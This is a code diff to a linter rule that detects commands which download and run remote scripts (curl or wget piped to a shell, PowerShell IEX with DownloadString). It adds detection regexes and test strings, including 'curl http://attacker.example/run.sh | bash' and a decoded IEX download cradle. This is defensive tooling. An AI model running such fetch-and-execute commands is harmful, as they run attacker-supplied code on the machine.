@@ -11,10 +11,13 @@ const INTERPRETER =
 const SUBSTITUTION =
   /(?<![\w-])((?:ba|z|da|k)?sh|source|\.|eval|python[23]?|perl|ruby|node)(?:[ \t]+-\w+){0,4}[ \t]+["']?(?:<\(|\$\(|`)[ \t]*(curl|wget)[ \t]+([^\n]{1,400})/g;
 const POWERSHELL_CALL =
-  /\b(iex|Invoke-Expression)[ \t]*(?:[("&$][^\n]{0,40}?)?\b(iwr|irm|curl|wget|Invoke-WebRequest|Invoke-RestMethod|DownloadString|Net\.WebClient)\b/gi;
+  /\b(iex|Invoke-Expression)[ \t]*(?:[("&$][^\n"']{0,40}?)?\b(iwr|irm|curl|wget|Invoke-WebRequest|Invoke-RestMethod|DownloadString|Net\.WebClient)\b/gi;
 
 /** A download has a host or a variable; the bare mention `curl … | sh` has neither. */
 const SOURCE = /:\/\/|\$|[\w}]\.[a-z]{2,}|localhost|<url>/i;
+/** Hosts of examples that show an attack, and addresses that are written so that nobody follows them. */
+const ATTACK =
+  /\b(?:attacker|evil|malicious|malware|victim|payload|phish|red-?team|c2|oast|collaborator)\b|hxxps?:|\[\.\]|shell\.(?:sh|ps1)\b/i;
 const LONGEST_COMMAND = 1000;
 const MOST_PIPES = 3;
 
@@ -78,10 +81,13 @@ export default defineRule({
     'curl https://x.example/a | b | c | d | sh',
     'This curl is a hair curl | sh.',
     `curl https://x.example/${'a'.repeat(1100)} | sh`,
+    'Object key: `; curl http://attacker.example/run.sh | bash`',
+    "Decoded: IEX (New-Object Net.WebClient).DownloadString('hxxp://bad[.]example/p.ps1')",
+    'CommandLine contains: "IEX" AND ("Net.WebClient" OR "DownloadString")',
   ],
   check({ text }, report) {
     for (const { command, start, end } of findDownloads(text)) {
-      if (isWarnedAgainst(text, start)) continue;
+      if (isWarnedAgainst(text, start) || ATTACK.test(lineFrom(text, start))) continue;
       report({
         at: { start, end },
         message: `\`${command}\` runs whatever the server sends, unseen.`,
@@ -108,6 +114,11 @@ function findDownloads(text: string): Download[] {
 
 function describe(command: string, match: RegExpExecArray): Download {
   return { command, start: match.index, end: match.index + match[0].length };
+}
+
+function lineFrom(text: string, start: number): string {
+  const newline = text.indexOf('\n', start);
+  return text.slice(start, Math.min(newline === -1 ? text.length : newline, start + LONGEST_COMMAND));
 }
 
 function findPipes(text: string): Download[] {
